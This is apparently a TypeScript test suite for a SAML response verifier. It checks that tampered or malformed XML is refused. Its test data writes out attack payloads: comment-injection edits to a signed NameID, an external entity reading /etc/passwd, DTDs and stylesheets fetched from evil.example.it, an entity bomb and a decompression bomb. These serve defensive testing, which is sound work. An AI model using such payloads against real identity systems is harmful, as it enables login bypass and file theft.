import { deflateRawSync } from 'node:zlib';
import { assert, integer, property, tuple } from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decodePosted, decodeRedirected, MAX_ENCODED } from './encoding.js';
import {
  answer,
  base64,
  expectRefusal,
  identityProvider,
  inAssertion,
  NOW,
  pendingRequest,
  responseXml,
  serviceProvider,
  signAssertion,
  swap,
} from './identity-provider.spec-helper.js';
import { settle } from './refusal.js';
import { peekResponse, verifyResponse } from './response.js';

const expected = { sp: serviceProvider(), idp: identityProvider(), pending: pendingRequest(), now: NOW };
const verify = (encoded: string) => verifyResponse(encoded, expected);
const signed = signAssertion(responseXml());

describe('a comment', () => {
  it.each([
    ['in the NameID', swap('>_subject<', '>_sub<!-- -->ject<')],
    ['that would cut the NameID of somebody longer', swap('>_subject<', '>_admin<!-- -->.evil.example.it<')],
    ['before the NameID', swap('>_subject<', '><!-- x -->_subject<')],
    ['in an attribute', swap('TINIT-RSSNCL80A01A662X', 'TINIT-RSSNCL80A01A662X<!-- -->, no: somebody else')],
  ])('%s is refused, though the identity provider signed around it', (_where, edit) => {
    expectRefusal(verify(answer(edit)), 'STRUCTURE');
  });

  it.each(['_subject', 'Nicolò', 'SpidL2', 'c_a662</saml:Audience>'])('put into %s after the signing is refused', (place) => {
    const at = signed.indexOf(place) + 3;
    expectRefusal(verify(base64(`${signed.slice(0, at)}<!-- x -->${signed.slice(at)}`)), 'STRUCTURE');
  });

  it('between elements harms nobody', () => {
    expect(verify(base64(signed.replace('<samlp:Status>', '<!-- x --><samlp:Status>')))).toEqual(verify(base64(signed)));
  });
});

const LAUGHS = `<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>`;

describe('is refused, and asks nobody anything:', () => {
  it.each([
    ['an external entity', `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${signed.replace('_subject', '&x;')}`],
    ['a parameter entity', `<!DOCTYPE r [<!ENTITY % x SYSTEM "https://evil.example.it/"> %x;]>${signed}`],
    ['an entity bomb', `${LAUGHS}${signed.replace('_subject', '&c;')}`],
    ['an external document type', `<!DOCTYPE r SYSTEM "https://evil.example.it/x.dtd">${signed}`],
    ['a document type in lower case', `<!doctype r>${signed}`],
    ['a document type after the declaration', `<?xml version="1.0"?><!DOCTYPE r>${signed}`],
    ['an entity that nobody declared', signed.replace('_subject', '&nbsp;')],
    ['a processing instruction', `<?xml-stylesheet href="https://evil.example.it/x.xsl"?>${signed}`],
    ['a processing instruction in a value', signed.replace('_subject', '_sub<?x ?>ject')],
    ['CDATA', signed.replace('_subject', '<![CDATA[_subject]]>')],
    ['another encoding', `<?xml version="1.0" encoding="UTF-16"?>${signed}`],
    ['a NUL', signed.replace('_subject', '_sub\0ject')],
    ['a NUL by its number', signed.replace('_subject', '_sub&#0;ject')],
    ['a control character in an attribute', signed.replace('"_request"', '"_request&#x1;"')],
    ['a prefix that nobody declared', signed.replace('<samlp:Status>', '<x:y/><samlp:Status>')],
    ['a prefix that nobody declared, of an attribute', signed.replace('<samlp:Status>', '<samlp:Status x:y="">')],
    ['a prefix that JavaScript knows', signed.replace('<samlp:Status>', '<constructor:y/><samlp:Status>')],
    ['an unclosed element', signed.replace('</samlp:Response>', '')],
    ['two roots', `${signed}${signed}`],
    ['text after the end', `${signed}text`],
    ['an attribute twice', signed.replace('Version="2.0"', 'Version="2.0" Version="2.0"')],
    ['an attribute without quotation marks', signed.replace('Version="2.0"', 'Version=2.0')],
    ['10,000 levels', signed.replace('_subject', '<a>'.repeat(10_000) + '</a>'.repeat(10_000))],
    ['nothing', ''],
    ['no element', 'hello'],
    ['another element', '<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"/>'],
    ['an element without namespace', signed.replaceAll('samlp:', '').replaceAll('xmlns:samlp', 'xmlns:x')],
  ])('%s', (_what, xml) => {
    expectRefusal(verify(base64(xml)), 'STRUCTURE');
    expect(peekResponse(base64(xml))).toBeUndefined();
  });

  it.each([
    ['no base64', 'ß'],
    ['XML as it is', signed],
    ['base64 with something in it', `${base64(signed).slice(0, 40)}!${base64(signed).slice(40)}`],
    ['more than anybody sends', base64(signed.replace('<samlp:Status>', `${' '.repeat(MAX_ENCODED)}<samlp:Status>`))],
    ['bytes that are no UTF-8', Buffer.from(signed.replace('Nicolò', 'Nicol\xf2'), 'latin1').toString('base64')],
  ])('%s', (_what, encoded) => {
    expectRefusal(verify(encoded), 'STRUCTURE');
  });

  it('a compressed message that grows beyond measure', () => {
    const bomb = deflateRawSync(Buffer.alloc(50_000_000)).toString('base64');
    expect(bomb.length).toBeLessThan(MAX_ENCODED);
    expectRefusal(
      settle(() => decodeRedirected(bomb)),
      'STRUCTURE',
    );
    expectRefusal(
      settle(() => decodeRedirected(base64('not compressed'))),
      'STRUCTURE',
    );
    expect(decodeRedirected(deflateRawSync('<a/>').toString('base64'))).toBe('<a/>');
  });
});

it('a form may break the base64 into lines', () => {
  const encoded = base64(signed).replaceAll(/(.{76})/g, '$1\r\n');
  expect(decodePosted(encoded)).toBe(signed);
});

it('whatever is changed after the signing, it is refused or says the same', () => {
  const genuine = verify(base64(signed));
  const bytes = Buffer.from(signed);
  const change = tuple(integer({ min: 0, max: bytes.length - 1 }), integer({ min: 0, max: 255 }), integer({ min: 0, max: 3 }));
  assert(
    property(change, ([at, byte, width]) => {
      const changed = Buffer.concat([bytes.subarray(0, at), Buffer.from([byte]), bytes.subarray(at + width)]);
      const result = verify(changed.toString('base64'));
      if (result.ok) expect({ ...result.value, responseId: '' }).toEqual({ ...(genuine.ok && genuine.value), responseId: '' });
    }),
    { numRuns: 400 },
  );
});

it('whatever comes, it is refused and nothing breaks', () => {
  const pieces = [...signed.matchAll(/<[^>]*>|[^<]+/g)].map(([piece]) => piece);
  const shuffle = tuple(
    integer({ min: 0, max: pieces.length - 1 }),
    integer({ min: 0, max: pieces.length - 1 }),
    integer({ min: 0, max: 2 }),
  );
  assert(
    property(shuffle, ([from, to, what]) => {
      const moved = [...pieces];
      const [piece = ''] = what === 0 ? [moved[from]] : moved.splice(from, 1);
      if (what < 2) moved.splice(to, 0, piece);
      const result = verify(base64(moved.join('')));
      if (result.ok) expect(result.value.nameId).toBe('_subject');
    }),
    { numRuns: 400 },
  );
});

it('an attribute’s value of another namespace is none', () => {
  expectRefusal(verify(answer(inAssertion(swap(/saml:AttributeValue/g, 'samlp:AttributeValue')))), 'ATTRIBUTES');
});
